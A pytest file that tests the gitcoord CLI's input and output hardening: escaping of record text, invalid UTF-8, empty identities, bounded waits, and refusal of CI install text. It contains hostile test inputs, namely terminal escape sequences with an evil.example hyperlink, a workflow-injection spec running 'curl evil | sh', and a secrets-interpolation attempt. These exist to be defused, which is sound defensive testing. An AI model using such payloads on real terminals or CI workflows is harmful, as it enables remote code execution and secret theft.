"""Field hardening, real text and bad input: what records hold is shown as written, and
input gitcoord cannot store is refused with exit 2 and the field named.

- On a real terminal (the CLI runs on a pty, so rich draws its tables) record text
  is never read as rich markup: brackets in a task title or a resource are shown,
  `[link=...]` makes no hyperlink, and escape sequences planted in records by hand
  reach neither the terminal nor a pipe.
- Invalid UTF-8 in argv (surrogate escapes on Linux) is exit 2 naming the field.
- An explicit empty identity is not "no identity".
- Waits, -C and the clock aid are bounded; the workflow's install text cannot add
  a step; an unreachable Notion host fails fast and names the command.
"""

from __future__ import annotations

import os
import pty
import select
import subprocess
from pathlib import Path

import pytest

from gitcoord.ci import render_workflow

from .conftest import GITCOORD, Result, git, plant_records, run, spawn

# -- a real terminal -----------------------------------------------------------------------------------------


def tty_run(cwd: Path, *args: str, agent: str | None = None) -> Result:
    """Run the CLI with its stdout on a pty (rich sees a terminal); stderr is a pipe."""
    env = dict(os.environ, COLUMNS="250", LINES="50", TERM="xterm-256color")
    env.pop("NO_COLOR", None)
    if agent is not None:
        env["GITCOORD_AGENT"] = agent
    master, slave = pty.openpty()
    proc = subprocess.Popen(
        [*GITCOORD, "-C", str(cwd), *args],
        stdin=subprocess.DEVNULL,
        stdout=slave,
        stderr=subprocess.PIPE,
        env=env,
    )
    os.close(slave)
    chunks: list[bytes] = []
    try:
        while True:
            ready, _, _ = select.select([master], [], [], 1.0)
            if ready:
                try:
                    data = os.read(master, 65536)
                except OSError:  # EIO: every writer of the pty is gone
                    break
                if not data:
                    break
                chunks.append(data)
            elif proc.poll() is not None:
                break
        assert proc.stderr is not None
        err = proc.stderr.read().decode(errors="replace")
        code = proc.wait(timeout=300)
    finally:
        os.close(master)
    return Result(code, b"".join(chunks).decode(errors="replace").replace("\r\n", "\n"), err)


def _ok(res: Result) -> str:
    assert res.code == 0, (res.code, res.err)
    assert "Traceback" not in res.err, res.err
    return res.out


def test_brackets_in_records_are_shown_as_written_on_a_terminal(local_repo: Path) -> None:
    r = local_repo
    assert run(r, "task", "add", "Handle [/api] prefix", agent="alpha").code == 0
    assert (
        run(r, "claim", "docs/[ab].md", "-m", "[link=https://x]y[/link] and [bold]z", agent="alpha").code == 0
    )
    assert run(r, "claim", "src/b.py", agent="beta").code == 0
    assert run(r, "check-in", "-m", "[red]a[/red] [/]", agent="beta").code == 0
    for argv in (["status"], ["task", "list"], ["log"], ["claims"], ["start"]):
        out = _ok(tty_run(r, *argv, agent="alpha"))
        assert "\x1b]8;" not in out, (argv, out)  # no OSC 8 hyperlink
        if argv[0] in ("status", "task", "log"):
            assert "Handle [/api] prefix" in out, (argv, out)
        if argv[0] in ("status", "claims", "start"):
            assert "docs/[ab].md" in out, (argv, out)
    claims = _ok(tty_run(r, "claims", agent="beta"))
    assert "[link=https://x]y[/link] and [bold]z" in claims and "[red]a[/red] [/]" in claims, claims
    assert "[red]a[/red] [/]" in _ok(tty_run(r, "status", agent="beta"))


HOSTILE = "ok\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[31mred\x9b1m\x07\rend"


def _assert_defused(out: str, *, terminal: bool) -> None:
    for seq in ("\x1b]", "\x1b[2J", "\x1b[31m", "\x9b", "\x07", "\r"):
        assert seq not in out, (seq, out)
    if not terminal:
        assert "\x1b" not in out, out
    assert "okclickred" in out and "end" in out, out  # the printable text is kept


@pytest.fixture
def planted(local_repo: Path) -> Path:
    """Records pushed by hand with escape sequences and controls in every free-text field."""
    r = local_repo
    assert run(r, "claim", "src/a.py", "-m", "fine", agent="alpha").code == 0
    esc = HOSTILE.replace("\\", "\\\\").replace("\x1b", "\\u001b").replace("\x9b", "\\u009b")
    esc = esc.replace("\x07", "\\u0007").replace("\r", "\\r")
    plant_records(
        r,
        {
            ".coord/tasks/T-90.toml": f'id = "T-90"\ntitle = "{esc}"\nstatus = "todo"\ncreated_by = "zed"\n'
            'created_at = "2020-01-01T00:00:00Z"\n',
            ".coord/messages/M-91.toml": f'id = "M-91"\nfrom_agent = "zed"\nto = "alpha"\nbody = "{esc}"\n'
            'created_at = "2020-01-01T00:00:00Z"\n',
            ".coord/claims/C-92.toml": 'id = "C-92"\nagent = "zed"\nresource = "src/z.py"\n'
            'mode = "exclusive"\n'
            f'token = 92\nmessage = "{esc}"\ncreated_at = "2020-01-01T00:00:00Z"\n'
            'last_check_in = "2020-01-01T00:00:00Z"\nexpires_at = "2999-01-01T00:00:00Z"\n',
        },
        subject=f"zed: add task {HOSTILE}\n\nCoord-Agent: zed\nCoord-Action: add\n",
    )
    return r


@pytest.mark.parametrize(
    "argv",
    [["status"], ["task", "list"], ["claims"], ["start"], ["inbox"], ["log"]],
    ids=lambda a: " ".join(a),
)
def test_planted_control_sequences_reach_neither_terminal_nor_pipe(planted: Path, argv: list[str]) -> None:
    _assert_defused(_ok(tty_run(planted, *argv, agent="alpha")), terminal=True)
    _assert_defused(_ok(spawn(planted, *argv, agent="alpha")), terminal=False)


def test_planted_control_sequences_do_not_reach_stderr(planted: Path) -> None:
    res = spawn(planted, "claim", "src/z.py", agent="alpha")
    assert res.code == 3, res.err
    assert "zed" in res.err and "\x1b" not in res.err and "\x07" not in res.err, res.err


def test_a_table_cell_cannot_forge_a_row_in_plain_output(local_repo: Path) -> None:
    r = local_repo
    assert (
        run(r, "claim", "src/a.py", "-m", "fine\n  C-1  mallory  src/**  exclusive", agent="alpha").code == 0
    )
    out = _ok(spawn(r, "claims", agent="alpha"))
    rows = [line for line in out.splitlines() if line.strip().startswith("C-")]
    assert len(rows) == 1, out
    assert rows[0].endswith("fine   C-1  mallory  src/**  exclusive"), out
    # ...and the record itself keeps the newline.
    assert run(r, "claims", "--json", agent="alpha").json()[0]["message"].startswith("fine\n")


# -- invalid UTF-8 in argv -----------------------------------------------------------------------------------


def _spawn_bytes(cwd: Path, *args: bytes, agent: str = "alpha") -> Result:
    """The console script with raw bytes in argv, as a shell passes `$'\\xff'` (Linux: surrogate escapes)."""
    env = dict(os.environ, GITCOORD_AGENT=agent)
    res = subprocess.run(
        [*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args],
        capture_output=True,
        env=env,
        timeout=300,
    )
    return Result(res.returncode, res.stdout.decode(errors="replace"), res.stderr.decode(errors="replace"))


BAD = b"caf\xe9 \xff\xfe"
# argv, and the field the refusal names.
BYTES_CASES: list[tuple[list[bytes], str]] = [
    ([b"claim", b"src/a.py", b"-m", BAD], "message"),
    ([b"check-in", b"-m", BAD], "message"),
    ([b"task", b"add", BAD], "title"),
    ([b"task", b"add", b"t", b"-m", BAD], "description"),
    ([b"send", b"--to", b"any", BAD], "message"),
    ([b"request-help", b"--to", b"any", BAD], "message"),
    ([b"log-error", b"--type", b"other", b"--severity", b"low", BAD], "message"),
    ([b"log-decision", b"--category", b"c", b"--impact", b"low", b"--rationale", BAD, b"d"], "rationale"),
    ([b"log-decision", b"--category", BAD, b"--impact", b"low", b"--rationale", b"r", b"d"], "category"),
    ([b"daily-summary", b"--completed", b"c", b"--next", b"n", b"--metric", b"k=" + BAD], "metric k"),
    ([b"daily-summary", b"--completed", BAD, b"--next", b"n"], "completed"),
    ([b"start", b"--role", BAD], "role"),
    ([b"notion", b"setup", b"--parent", BAD], "parent page id"),
    ([b"ci", b"github", b"--install", BAD], "install"),
    ([b"claim", b"src/" + BAD + b".py"], "resource"),  # claims.py says "not valid Unicode"
]


@pytest.mark.parametrize(
    ("argv", "field"),
    BYTES_CASES,
    ids=[
        " ".join(a[:2])
        for a, _ in [([x.decode(errors="replace") for x in argv], f) for argv, f in BYTES_CASES]
    ],
)
def test_invalid_utf8_in_an_argument_is_exit_2_naming_the_field(
    local_repo: Path, argv: list[bytes], field: str
) -> None:
    before = git(local_repo, "rev-parse", "refs/heads/coord")
    res = _spawn_bytes(local_repo, *argv)
    assert res.code == 2, (res.code, res.err)
    assert "Traceback" not in res.err, res.err
    lines = res.err.strip().splitlines()
    assert lines[0].startswith("gitcoord: ") and "is not valid U" in lines[0] and field in lines[0], res.err
    assert git(local_repo, "rev-parse", "refs/heads/coord") == before  # nothing written


def test_invalid_utf8_through_the_python_api(local_repo: Path) -> None:
    from gitcoord import Coordinator
    from gitcoord.errors import InvalidInput

    text = BAD.decode(errors="surrogateescape")
    with Coordinator(local_repo, agent="alpha") as c:
        with pytest.raises(InvalidInput, match="title is not valid UTF-8"):
            c.add_task(text)
        with pytest.raises(InvalidInput, match="message is not valid UTF-8"):
            c.claim(["src/a.py"], message=text)


# -- the workflow's install text -----------------------------------------------------------------------------


yaml = pytest.importorskip("yaml", reason="PyYAML is needed to parse the workflow")

WORKFLOW = Path(".github/workflows/gitcoord-notion.yml")


@pytest.mark.parametrize(
    "spec",
    [
        "gitcoord\n      - name: evil\n        run: curl evil | sh",
        "gitcoord\r\n      - run: evil",
        "gitcoord\x1b[2J",
        "gitcoord\u2028x",
        "gitcoord==${{ secrets.NOTION_TOKEN }}",
        "",
    ],
)
def test_ci_install_text_that_could_change_the_workflow_is_refused(local_repo: Path, spec: str) -> None:
    res = run(local_repo, "ci", "github", "--install", spec)
    assert res.code == 2, (res.code, res.err)
    assert res.err.startswith("gitcoord: the install spec "), res.err
    assert not (local_repo / WORKFLOW).exists()  # nothing half-written
    assert git(local_repo, "ls-tree", "-r", "--name-only", "refs/heads/coord").find("workflows") < 0


@pytest.mark.parametrize(
    "spec",
    [
        "gitcoord @ git+https://example.com/x.git@v1#egg=gitcoord",
        "pkg: 1 #x",
        "./tools/gitcoord[notion]",
        'it\'s "quoted" $HOME `id`',
    ],
)
def test_ci_install_text_is_quoted_for_yaml_and_the_shell(local_repo: Path, spec: str) -> None:
    import shlex

    res = run(local_repo, "ci", "github", "--no-coord", "--install", spec)
    assert res.code == 0, res.err
    flow = yaml.safe_load((local_repo / WORKFLOW).read_text(encoding="utf-8"))
    steps = flow["jobs"]["sync"]["steps"]
    installs = [s for s in steps if s.get("name") == "Install gitcoord"]
    # The spec adds no step: the workflow has exactly the steps it has with a plain spec.
    plain = yaml.safe_load(render_workflow(install="gitcoord"))["jobs"]["sync"]["steps"]
    assert len(installs) == 1 and [s.get("name") for s in steps] == [s.get("name") for s in plain], steps
    assert shlex.split(installs[0]["run"]) == ["python", "-m", "pip", "install", spec]


# -- an explicit empty identity ------------------------------------------------------------------------------


@pytest.fixture
def started(local_repo: Path) -> Path:
    """alpha ran `gitcoord start` in this worktree, proposed a decision; beta holds a claim."""
    r = local_repo
    assert run(r, "start", "--agent", "alpha").code == 0
    assert run(r, "log-decision", "--category", "c", "--impact", "low", "--rationale", "r", "mine").code == 0
    assert run(r, "claim", "src/b.py", agent="beta").code == 0
    return r


EMPTY_IDENTITIES: list[tuple[list[str], dict[str, str]]] = [
    (["--agent", ""], {}),
    (["--agent", " "], {}),
    (["--agent="], {}),
    ([], {"GITCOORD_AGENT": ""}),
]


@pytest.mark.parametrize(
    ("before", "env"), EMPTY_IDENTITIES, ids=["agent-empty", "agent-blank", "agent=", "env"]
)
def test_an_explicit_empty_identity_is_bad_input_not_a_human(
    started: Path, before: list[str], env: dict[str, str]
) -> None:
    r = started
    decision = run(r, "decisions", "list", "--json").json()[0]["id"]
    tip = git(r, "rev-parse", "refs/heads/coord")
    for argv in (
        ["decisions", "approve", decision],
        ["release", "src/b.py", "--force", "--reason", "mine now"],
    ):
        res = spawn(r, *before, *argv, env=env)
        assert res.code == 2, (argv, res.code, res.err)
        assert "empty" in res.err and ("--agent" in res.err or "GITCOORD_AGENT" in res.err), res.err
        assert "Traceback" not in res.err
    # after the subcommand too
    if before:
        res = spawn(r, "release", "src/b.py", "--force", "--reason", "x", *before, env=env)
        assert res.code == 2 and "--agent" in res.err, res.err
    assert git(r, "rev-parse", "refs/heads/coord") == tip  # nothing approved, nothing released
    assert run(r, "decisions", "list", "--json").json()[0]["status"] == "proposed"


def test_an_empty_identity_through_the_python_api(started: Path) -> None:
    from gitcoord import Coordinator
    from gitcoord.errors import InvalidInput

    with pytest.raises(InvalidInput, match="not a valid agent name"):
        Coordinator(started, agent="")


def test_an_empty_gitcoord_agent_refuses_a_commit_through_the_hooks(started: Path) -> None:
    r = started
    assert run(r, "hooks", "install").code == 0
    (r / "src").mkdir(exist_ok=True)
    (r / "src" / "b.py").write_text("x\n")
    git(r, "add", "src/b.py")
    res = subprocess.run(
        ["git", "commit", "-q", "-m", "take b"],
        cwd=r,
        capture_output=True,
        text=True,
        env=dict(os.environ, GITCOORD_AGENT=""),
    )
    assert res.returncode != 0, res.stdout + res.stderr
    assert "GITCOORD_AGENT" in res.stderr and "empty" in res.stderr, res.stderr
    assert git(r, "log", "-1", "--format=%s") == "initial"


# -- bounds: --wait, -C, the clock aid -----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["inf", "1e308", "nan", "-1", "604801"])
def test_wait_is_bounded_like_minutes(local_repo: Path, value: str) -> None:
    r = local_repo
    assert run(r, "claim", "src/a.py", agent="beta").code == 0
    tip = git(r, "rev-parse", "refs/heads/coord")
    for argv in (["claim", "src/a.py", "--wait", value], ["task", "next", "--wait", value]):
        res = spawn(r, *argv, agent="alpha")
        assert res.code == 2, (argv, res.code, res.err)
        assert res.err.startswith("gitcoord: --wait must be ") and "at most a week" in res.err, res.err
    assert git(r, "rev-parse", "refs/heads/coord") == tip


def test_wait_bound_holds_for_the_python_api(local_repo: Path) -> None:
    from gitcoord import Coordinator
    from gitcoord.errors import InvalidInput

    with Coordinator(local_repo, agent="alpha") as c:
        for value in (float("inf"), 1e308, float("nan"), -5.0):
            with pytest.raises(InvalidInput, match="--wait must be"):
                c.claim(["src/a.py"], wait=value)
            with pytest.raises(InvalidInput, match="--wait must be"):
                c.next_task(wait=value)
        assert c.claim(["src/a.py"], wait=7 * 24 * 3600)  # the bound itself is fine (granted at once)


def test_dash_c_on_a_file_or_an_overlong_path_is_exit_2(local_repo: Path, tmp_path: Path) -> None:
    a_file = tmp_path / "plain.txt"
    a_file.write_text("x")
    cases = {
        str(a_file): "not a directory",
        str(tmp_path / ("x" * 5000)): "cannot",
        str(tmp_path / "missing"): "does not exist",
        "/".join(["d" * 200] * 30): "cannot",
    }
    for path, words in cases.items():
        res = subprocess.run([*GITCOORD, "-C", path, "claims"], capture_output=True, text=True, timeout=120)
        assert res.returncode == 2, (path[:80], res.returncode, res.stderr)
        line = res.stderr.strip().splitlines()[0]
        assert line.startswith("gitcoord: -C ") and words in line and len(res.stderr) < 600, res.stderr


@pytest.mark.parametrize("value", ["abc", "10s", "inf", "nan", "1e20", ""])
def test_a_bad_clock_skew_is_exit_2(local_repo: Path, value: str) -> None:
    res = spawn(local_repo, "claim", "src/a.py", agent="alpha", env={"GITCOORD_CLOCK_SKEW_SECONDS": value})
    if value == "":
        assert res.code == 0, res.err  # empty means unset
        return
    assert res.code == 2, (res.code, res.err)
    assert res.err.startswith("gitcoord: GITCOORD_CLOCK_SKEW_SECONDS must be "), res.err
    assert "Traceback" not in res.err


def test_wait_bound_holds_for_the_mcp_tools(world: object) -> None:
    pytest.importorskip("mcp", reason="the official `mcp` SDK is not installed")
    import anyio

    from .test_mcp import _session_run, _text

    clone = world.clones[0]  # type: ignore[attr-defined]
    _, results = anyio.run(
        _session_run,
        clone,
        "alpha",
        [
            ("claim", {"resources": ["src/a.py"], "wait": 1e308}),
            ("task_next", {"wait": 1e308}),
            ("claim", {"resources": ["src/a.py"], "wait": -1}),
            ("claims", {}),
        ],
    )
    for result in results[:3]:
        assert result.is_error and "--wait must be" in _text(result), _text(result)
    assert "src/a.py" not in _text(results[3])


# -- an unreachable Notion -----------------------------------------------------------------------------------


def _closed_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


UNREACHABLE = {
    "refused": (lambda: f"http://127.0.0.1:{_closed_port()}", "connection refused", 3),
    "dns": (lambda: "http://gitcoord-nohost.invalid", "does not resolve", 1),
}


@pytest.mark.parametrize("kind", sorted(UNREACHABLE))
def test_an_unreachable_notion_fails_fast_in_the_api(kind: str) -> None:
    pytest.importorskip("notion_client")
    from gitcoord.errors import Unavailable
    from gitcoord.notion.api import Api

    make_url, words, most = UNREACHABLE[kind]
    api = Api.connect("secret-token", make_url(), rate=1000)
    with pytest.raises(Unavailable) as caught:
        api.call(api.client.users.me)
    assert 1 <= api.requests <= most, api.requests  # no long retry loop
    text = caught.value.render()
    assert "could not reach the Notion API" in text and words in text, text
    assert "5xx" not in text, text


@pytest.mark.parametrize("kind", sorted(UNREACHABLE))
@pytest.mark.parametrize("command", ["setup", "sync"])
def test_an_unreachable_notion_names_the_host_and_the_command(
    local_repo: Path, kind: str, command: str
) -> None:
    pytest.importorskip("notion_client")
    make_url, words, _ = UNREACHABLE[kind]
    url = make_url()
    argv = (
        ["notion", "setup", "--parent", "0123456789abcdef0123456789abcdef"]
        if command == "setup"
        else ["notion", "sync"]
    )
    if command == "sync":  # as after a setup: every database recorded
        from gitcoord.notion.schema import DATABASES

        ids = "".join(f'{kind} = "{i:032x}"\n' for i, kind in enumerate(DATABASES))
        (local_repo / ".coord").mkdir(exist_ok=True)
        (local_repo / ".coord" / "config.toml").write_text(
            f'[notion]\nparent_page = "{0:032x}"\n[notion.databases]\n{ids}[notion.data_sources]\n{ids}'
        )
    res = spawn(
        local_repo,
        *argv,
        env={"NOTION_TOKEN": "secret-token", "NOTION_BASE_URL": url, "GITCOORD_NOTION_RATE": "1000"},
    )
    assert res.code == 4, (res.code, res.err)
    first = next(
        line for line in res.err.splitlines() if line.startswith("gitcoord: ")
    )  # after progress lines
    assert first.startswith("gitcoord: could not reach the Notion API at ") and words in first, res.err
    assert url.split("//")[1] in first, res.err
    assert "5xx" not in res.err and f"gitcoord notion {command}" in res.err, res.err
    other = "sync" if command == "setup" else "setup"
    assert f"gitcoord notion {other}" not in res.err, res.err


def test_invalid_utf8_in_notes_and_reasons_names_the_field(local_repo: Path) -> None:
    r = local_repo
    assert run(r, "log-error", "--type", "other", "--severity", "low", "broken", agent="alpha").code == 0
    assert run(r, "claim", "src/a.py", agent="alpha").code == 0
    assert run(r, "task", "add", "t", agent="alpha").code == 0
    ids = {
        k: run(r, *argv, "--json", agent="alpha").json()[0]["id"]
        for k, argv in {"error": ["errors", "list"], "task": ["task", "list"]}.items()
    }
    before = git(r, "rev-parse", "refs/heads/coord")
    for argv, field in (
        ([b"errors", b"resolve", ids["error"].encode(), b"--note", BAD], "note"),
        ([b"task", b"block", ids["task"].encode(), b"--reason", BAD], "reason"),
        ([b"release", b"src/a.py", b"--force", b"--reason", BAD], "reason"),
    ):
        env_agent = "alpha" if argv[0] != b"release" else "human"
        res = _spawn_bytes(r, *argv, agent=env_agent) if env_agent == "alpha" else _spawn_human(r, *argv)
        assert res.code == 2 and f"the {field} is not valid UTF-8" in res.err, (argv[:2], res.code, res.err)
    assert git(r, "rev-parse", "refs/heads/coord") == before


def _spawn_human(cwd: Path, *args: bytes) -> Result:
    env = {k: v for k, v in os.environ.items() if k != "GITCOORD_AGENT"}
    res = subprocess.run(
        [*(a.encode() for a in GITCOORD), b"-C", str(cwd).encode(), *args],
        capture_output=True,
        env=env,
        timeout=300,
    )
    return Result(res.returncode, res.stdout.decode(errors="replace"), res.stderr.decode(errors="replace"))
